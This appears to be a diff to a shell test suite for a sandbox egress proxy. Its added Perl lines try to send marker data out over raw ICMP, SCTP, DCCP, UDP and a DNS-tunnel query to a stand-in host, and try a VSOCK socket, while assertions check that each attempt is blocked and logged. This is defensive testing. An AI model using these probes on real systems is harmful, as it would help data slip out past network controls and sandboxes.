@@ -191,6 +191,9 @@ exfil='
 	for my $p (1, 17, 58, 255) { socket(R, PF_INET, SOCK_RAW, $p) and send(R, "MARKER" x 4, 0, pack_sockaddr_in(0, inet_aton("203.0.113.9"))); }
 	socket(U, PF_INET, SOCK_DGRAM, 17); send(U, "MARKER", 0, pack_sockaddr_in(53, inet_aton($_))) for ("203.0.113.9", "'"$gw"'", "8.8.8.8");
 	socket(V, 10, SOCK_DGRAM, 17); send(V, "MARKER", 0, pack("S n N a16 N", 10, 53, 0, "\x20\x01\x0d\xb8" . "\0" x 11 . "\1", 0));
+	socket(I, PF_INET, SOCK_DGRAM, 1) and send(I, pack("C2 n3", 8, 0, 0, 1, 1) . "MARKER" x 9, 0, pack_sockaddr_in(0, inet_aton($_))) for ("203.0.113.9", "'"$gw"'");
+	for my $p (33, 132, 136) { socket(X, PF_INET, $p == 132 ? SOCK_STREAM : $p == 33 ? 6 : SOCK_DGRAM, $p) or next; alarm 2; connect(X, pack_sockaddr_in(443, inet_aton("203.0.113.9"))) and send(X, "MARKER", 0); alarm 0; }
+	socket(K, 40, SOCK_STREAM, 0) and print "VSOCK\n";
 	socket(P, 17, 3, 768) and syscall(44, fileno(P), "MARKER" x 20, 120, 0, pack("S n i S C C a8", 17, 0x0800, 1, 0, 0, 6, "\xff" x 6), 20);
 	socket(D, PF_INET, SOCK_DGRAM, 17); connect(D, pack_sockaddr_in(53, inet_aton("8.8.8.8"))); send(D, pack("n6", 7, 256, 1, 0, 0, 0) . pack("C/a* C/a* C/a* x n2", "MARKER" . "x" x 50, "tunnel", "example", 16, 1), 0);
 	alarm 2; my $answer = ""; recv(D, $answer, 512, 0); printf "DNS %d\n", unpack("x2 n", $answer) & 15; alarm 0;
@@ -205,6 +208,7 @@ unlike "no port of the host, of the gateway or of anyone answered" "$out" CONNEC
 like "a name that would carry data out does not exist, says the proxy itself" "$out" '^DNS 3$'
 is "any port of any address is refused at once" "$(grep -c '^REFUSED' <<<"$out")" 4
 unlike "no abstract socket of the host answered" "$out" ABSTRACT
+unlike "no socket to the machine below can be made" "$out" VSOCK
 for target in "$gw:4567" "$hostip:4567" "127.0.0.1:4567" "localhost:4567" "203.0.113.9:80"; do
 	out=$(dk exec net perl -e 'use Socket; socket(T, PF_INET, SOCK_STREAM, 0); connect(T, pack_sockaddr_in(3128, inet_aton("127.0.0.1"))) or die "no proxy"; syswrite T, "CONNECT '"$target"' HTTP/1.1\r\nHost: '"$target"'\r\n\r\n"; sysread T, my $b, 4096; print $b' 2>&1)
 	like "the proxy refuses $target" "$out" '^HTTP/1\.[01] 403'
@@ -221,8 +225,8 @@ unlike "the proxy is not root" "$(awk '/^Uid/{print $2}' "/proc/$proxy/status")"
 is "the proxy has no capability" "$(awk '/^Cap(Prm|Eff|Bnd|Amb|Inh)/{print $2}' "/proc/$proxy/status" | sort -u)" 0000000000000000
 log=/proc/$proxy/fd/6 # EGRESS_FD_LOG
 is "what was tried is in the decision log: names, datagrams, ports" \
-	"$(jq -r 'select(.verdict == "deny") | if .via == "dns" then "dns" elif .via == "udp" then "udp \(.port)" elif .via == "transparent" then "tcp \(.port)" else empty end' "$log" | grep -xE 'dns|udp 443|tcp (22|25|443|5432)' | sort -u | tr '\n' ' ')" \
-	"dns tcp 22 tcp 25 tcp 443 tcp 5432 udp 443 "
+	"$(jq -r 'select(.verdict == "deny") | if .via == "dns" then "dns" elif .via == "udp" then "udp \(.port)" elif .via == "transparent" then "tcp \(.port)" else empty end' "$log" | grep -xE 'dns|udp (53|443)|tcp (22|25|443|5432)' | sort -u | tr '\n' ' ')" \
+	"dns tcp 22 tcp 25 tcp 443 tcp 5432 udp 443 udp 53 "
 unlike "and nothing of what was sent" "$(cat "$log")" MARKERMARKER
 kill -9 "$proxy"
 sleep 0.3
